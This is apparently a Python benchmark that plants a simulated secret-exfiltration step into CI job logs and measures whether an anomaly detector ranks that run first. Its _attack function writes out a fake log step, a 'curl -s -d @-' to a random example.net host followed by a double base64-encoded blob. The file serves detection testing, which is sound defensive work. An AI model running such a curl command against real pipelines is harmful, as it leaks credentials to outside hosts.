"""A host nobody contacted and an encoded run, planted into one of a job's runs: does it come first?

Each of some jobs of an organisation runs fifty times; a run prints what a real log of it printed, with other numbers,
and now and then lines of its own: other tests, a dependency more, sometimes from another host. Beside real logs the
simulator's are taken. The attack sends what the job knows to a new host, as three lines.
"""

from __future__ import annotations

import base64
import random
import re
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field

from benchmarks.logs import DAY, START, read, real_logs
from collector.event import Event
from collector.simulator import names
from collector.simulator.logs import Traffic, write_log
from collector.stream import Record, observed
from models.finding import Scored
from service.memory import Memories

SEEDS = range(10)
RUNS = 50
JOBS = 8
LONGEST = 300_000
"""Bytes of a real log that is taken, so that ten organisations take minutes."""
_NUMBER = re.compile(r"(?<![\w.])\d{2,}(?![\w.])")

Row = dict[str, object]


@dataclass
class _Job:
    """A job and what its runs print."""

    name: str
    lines: Sequence[str]
    own: list[str] = field(default_factory=list)
    """Lines that runs printed for the first time, and others print again."""

    def run(self, rng: random.Random) -> list[str]:
        """Return the lines of one more run."""
        lines = [_NUMBER.sub(lambda found: _like(found[0], rng), line) for line in self.lines]
        if rng.random() < 0.3:
            word = "".join(rng.choices("abcdefghijklmnopqrstuvwxyz", k=7))
            self.own.append(f"Running com.acme.{word}.{word.title()}Test")
        if rng.random() < 0.02:
            word = "".join(rng.choices("abcdefghijklmnopqrstuvwxyz", k=6))
            self.own.append(f"Downloading https://{word}.example.org/{word}-1.{rng.randrange(9)}.tgz")
        for line in self.own:
            lines.insert(len(lines) // 2, line)
        if rng.random() < 0.3:
            del lines[rng.randrange(len(lines))]
        return lines


def compare() -> Iterator[Row]:
    """Yield one row a kind of log: how often the planted run comes first."""
    real = [text for text in _texts() if text]
    for name, texts in (("real logs", real), ("simulated logs", [])):
        if texts or name.startswith("simulated"):
            yield {"logs": name, **_judged([_play(seed, texts) for seed in SEEDS])}


def _texts() -> Iterator[list[str]]:
    taken = 0
    for _, body in real_logs():
        if 20_000 < len(body) < LONGEST and b"exited with 0" in body[-200:]:
            taken += 1
            yield body.decode(errors="replace").split("\n")
        if taken == 4 * JOBS:
            return


@dataclass(frozen=True)
class _Outcome:
    in_job: int
    in_organisation: int
    honest: int
    """Honest runs told as findings in the weeks after the first."""
    above: int
    """Honest runs with at least the planted one's score."""
    families: frozenset[str]
    """Families of facts the planted one is told by."""


def _play(seed: int, texts: Sequence[Sequence[str]]) -> _Outcome:
    rng = random.Random(seed)  # noqa: S311  # the same organisation each time
    chosen = rng.sample(list(texts), JOBS) if texts else [_simulated(rng) for _ in range(JOBS)]
    jobs = [_Job(f"acme/repo{number}", lines) for number, lines in enumerate(chosen)]
    planted, events = f"{rng.randrange(JOBS)}-{RUNS}", []
    for number in range(RUNS + 1):
        for at, job in enumerate(jobs):
            lines, run = job.run(rng), f"{at}-{number}"
            if run == planted:
                lines[len(lines) // 2 : len(lines) // 2] = _attack(rng)
            when = START + number * DAY / 2 + at * 3600 + rng.random() * 1800
            events.append(read("\n".join(lines), job=f"{job.name}:ci.yml/test", at=when, run=run))
    return _rank(_scored(events), planted)


def _scored(events: Sequence[Event]) -> list[Scored]:
    records = [Record(number, entry) for number, entry in enumerate(observed(events), 1)]
    return [item for _, item in Memories().take(records).scored]


def _rank(scored: Sequence[Scored], run: str) -> _Outcome:
    planted = next(item for item in scored if item.event.links["run"] == run)
    others = [item for item in scored if item is not planted]
    job = [item for item in others if item.event.links["job"] == planted.event.links["job"]]
    return _Outcome(
        in_job=1 + sum(item.score >= planted.score for item in job),
        in_organisation=1 + sum(item.score >= planted.score for item in others),
        honest=sum(item.is_finding for item in others if item.event.observed_at > START + 7 * DAY),
        above=sum(item.score >= planted.score for item in others),
        families=frozenset(reason.family for reason in planted.reasons),
    )


def _judged(outcomes: Sequence[_Outcome]) -> Row:
    weeks = (RUNS / 2 - 7) / 7
    return {
        "organisations": len(outcomes),
        "first of its job": sum(outcome.in_job == 1 for outcome in outcomes),
        "first of all": sum(outcome.in_organisation == 1 for outcome in outcomes),
        "worst rank of all": max(outcome.in_organisation for outcome in outcomes),
        "told": sum(bool(outcome.families) for outcome in outcomes),
        "by host, blob and line": sum({"host", "encoded", "log_text"} <= outcome.families for outcome in outcomes),
        "honest runs as strange": sum(outcome.above for outcome in outcomes),
        "honest findings a week and job": round(sum(o.honest for o in outcomes) / len(outcomes) / weeks / JOBS, 2),
    }


def _attack(rng: random.Random) -> list[str]:
    host = "".join(rng.choices("abcdefghijklmnopqrstuvwxyz", k=9))
    secret = base64.b64encode(base64.b64encode(rng.randbytes(150))).decode()
    return [f"##[group]Run curl -s -d @- https://{host}.example.net/in", secret, "##[endgroup]"]


def _simulated(rng: random.Random) -> list[str]:
    language = rng.choice(sorted(names.LANGUAGES))
    return write_log(rng, language, "test", START, Traffic(secrets=("DEPLOY_TOKEN",))).split("\n")


def _like(number: str, rng: random.Random) -> str:
    return "".join(rng.choice("123456789") for _ in number)
